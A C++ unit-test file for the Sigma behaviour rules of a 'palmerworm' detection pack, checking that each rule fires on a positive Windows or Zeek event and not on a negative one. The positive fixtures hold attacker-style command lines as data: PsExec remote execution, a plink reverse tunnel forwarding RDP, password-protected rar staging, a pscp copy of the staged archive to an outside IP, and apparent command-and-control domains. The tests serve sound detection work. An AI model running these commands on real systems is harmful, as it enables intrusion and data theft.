// The palmerworm pack's behaviour rules (packs/palmerworm/sigma/): every
// rule loads, fires on its positive event and stays quiet on its negative.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "shrike/sigma.h"

namespace shrike {
namespace {

using Fields = std::vector<std::pair<std::string, std::string>>;

Event Win(const std::string& channel, int id, Fields data) {
  Event e;
  e.kind = SourceKind::kEvtx;
  e.dialect = "evtx";
  e.fields = {{"Channel", channel}, {"EventID", std::to_string(id)}, {"Computer", "ws-eng-014"}};
  for (auto& kv : data) e.fields.push_back(std::move(kv));
  return e;
}

constexpr const char* kSysmon = "Microsoft-Windows-Sysmon/Operational";

Event Proc(const std::string& image, const std::string& cmd, Fields more = {}) {
  more.emplace_back("Image", image);
  more.emplace_back("CommandLine", cmd);
  return Win(kSysmon, 1, std::move(more));
}

struct PackCase {
  const char* rule_id;
  Event positive;
  Event negative;
};

std::vector<PackCase> Cases() {
  return {
      {"0c2b9f0e-6a55-4d5e-9d1e-5f3b2d7a7045",
       Win("System", 7045,
           {{"Provider_Name", "Service Control Manager"},
            {"ServiceName", "PSEXESVC"},
            {"ImagePath", "%SystemRoot%\\PSEXESVC.exe"}}),
       Win("System", 7045,
           {{"Provider_Name", "Service Control Manager"},
            {"ServiceName", "Spooler"},
            {"ImagePath", "C:\\Windows\\System32\\spoolsv.exe"}})},
      {"7e0c6d3a-3f4e-4b1c-8f3e-2a9d5c1b4697",
       Win("Security", 4697,
           {{"ServiceName", "x"}, {"ServiceFileName", "C:\\Windows\\PSEXESVC.exe"}}),
       Win("Security", 4624, {{"ServiceName", "PSEXESVC"}})},
      {"5b1f4c8e-2d7a-4e39-b6c1-9a0e3f7d2c11",
       Win(kSysmon, 17, {{"PipeName", "\\PSEXESVC-WS1-1234-stdin"}}),
       Win(kSysmon, 17, {{"PipeName", "\\srvsvc"}})},
      {"9d3e7a21-4c6b-4f0e-a8d2-6b5c1e0f9a33",
       Proc("C:\\Windows\\System32\\cmd.exe", "cmd.exe",
            {{"ParentImage", "C:\\Windows\\PSEXESVC.exe"}}),
       Proc("C:\\Windows\\System32\\cmd.exe", "cmd.exe",
            {{"ParentImage", "C:\\Windows\\explorer.exe"}})},
      {"3f7b1d9e-5a2c-4e8b-9d6f-1c3a5e7b9d22",
       Proc("C:\\Windows\\PSEXESVC.exe", "\"C:\\Windows\\PSEXESVC.exe\"",
            {{"ParentImage", "C:\\Windows\\System32\\services.exe"}}),
       Proc("C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs",
            {{"ParentImage", "C:\\Windows\\System32\\services.exe"}})},
      {"2a6f8c0d-1b3e-4d5f-9a7c-8e2b4d6f0a44",
       Proc("C:\\Tools\\PsExec64.exe", "PsExec64.exe \\\\10.0.0.5 -s cmd.exe"),
       Proc("C:\\Tools\\PsExec64.exe", "PsExec64.exe -s -i cmd.exe")},
      {"4e8a2c6f-0d1b-4a3e-b5c7-9f1d3e5a7b55",
       Proc("C:\\Users\\Public\\svch.exe", "svch.exe \\\\dc1 cmd",
            {{"OriginalFileName", "psexec.c"}}),
       Proc("C:\\Tools\\PsExec.exe", "PsExec.exe \\\\dc1 cmd", {{"OriginalFileName", "psexec.c"}})},
      {"0e4a6c8d-2b1f-4d3a-9e5c-7a9b1d3f5e0c",
       Win(kSysmon, 13,
           {{"TargetObject", "HKLM\\System\\CurrentControlSet\\services\\hello\\ImagePath"},
            {"Details", "%COMSPEC% /b /c start /b /min powershell.exe -nop"}}),
       Win(kSysmon, 13,
           {{"TargetObject", "HKLM\\System\\CurrentControlSet\\services\\Spooler\\ImagePath"},
            {"Details", "C:\\Windows\\System32\\spoolsv.exe"}})},
      {"6c0e4a8b-2f1d-4b3e-9c5a-7d9f1b3e5c66",
       Proc("C:\\Users\\IEUser\\Desktop\\plink.exe",
            "plink.exe  10.0.2.18 -P 80 -C -R 127.0.0.3:4444:127.0.0.2:3389 -l test -pw test"),
       Proc("C:\\Users\\IEUser\\Desktop\\plink.exe", "plink.exe -ssh admin@10.0.2.18")},
      {"8e2a6c0d-4b3f-4d5a-a1c7-9f3b5d7e1a77",
       Proc("C:\\Temp\\pscp.exe", "pscp.exe -pw x C:\\stage\\d.rar root@45.76.218.116:/tmp/"),
       Proc("C:\\Temp\\pscp.exe", "pscp.exe -h")},
      {"1a3c5e7f-9b2d-4f6a-8c0e-2d4f6a8c0e88",
       Proc("C:\\Program Files\\WinRAR\\rar.exe", "rar.exe a -hpP@ss -r C:\\stage\\d.rar C:\\docs"),
       Proc("C:\\Program Files\\WinRAR\\rar.exe", "rar.exe x backup.rar")},
      {"3b5d7f9a-1c2e-4a6b-9d0f-4e6a8c0e2b99", Proc("C:\\Temp\\SNScan.exe", "SNScan.exe"),
       Proc("C:\\Temp\\scan.exe", "scan.exe", {{"Product", "Nmap"}})},
      {"5d7f9b1c-3e4a-4c8d-8f2b-6a8c0e2b4daa",
       Win(kSysmon, 22, {{"QueryName", "loop.microsoftmse.com"}}),
       Win(kSysmon, 22, {{"QueryName", "microsoftmse.com.example.org"}})},
  };
}

class PalmerwormPack : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    report_ = new SigmaLoadReport;
    auto rules = SigmaRuleSet::Load({"palmerworm"}, SigmaFilter{}, *report_);
    ASSERT_TRUE(rules.ok()) << rules.error().ToString();
    rules_ = new std::shared_ptr<const SigmaRuleSet>(*rules);
  }
  static void TearDownTestSuite() {
    delete rules_;
    delete report_;
  }
  static std::vector<std::string> Fired(const Event& e) {
    SigmaEvaluator ev(*rules_);
    ev.Evaluate(e, "t", [](const Finding&) {});
    return ev.last_matches();
  }
  static SigmaLoadReport* report_;
  static std::shared_ptr<const SigmaRuleSet>* rules_;
};
SigmaLoadReport* PalmerwormPack::report_ = nullptr;
std::shared_ptr<const SigmaRuleSet>* PalmerwormPack::rules_ = nullptr;

TEST_F(PalmerwormPack, EveryRuleLoads) {
  EXPECT_TRUE(report_->skipped.empty()) << report_->ToString();
  EXPECT_EQ(report_->loaded, 14u) << report_->ToString();
}

TEST_F(PalmerwormPack, EachRuleFiresOnItsPositiveAndNotOnItsNegative) {
  for (const PackCase& c : Cases()) {
    auto pos = Fired(c.positive);
    EXPECT_NE(std::find(pos.begin(), pos.end(), c.rule_id), pos.end()) << c.rule_id;
    auto neg = Fired(c.negative);
    EXPECT_EQ(std::find(neg.begin(), neg.end(), c.rule_id), neg.end()) << c.rule_id;
  }
}

TEST_F(PalmerwormPack, DnsRuleOverZeek) {
  Event z;
  z.kind = SourceKind::kZeekTsv;
  z.dialect = "zeek";
  z.fields = {{"ts", "1567476847"}, {"query", "x.asiainfo.hpcloudnews.com"}};
  auto fired = Fired(z);
  EXPECT_EQ(fired, std::vector<std::string>{"7f9b1d3e-5a6c-4e0f-9b4d-8c0e2b4d6fbb"});
}

}  // namespace
}  // namespace shrike
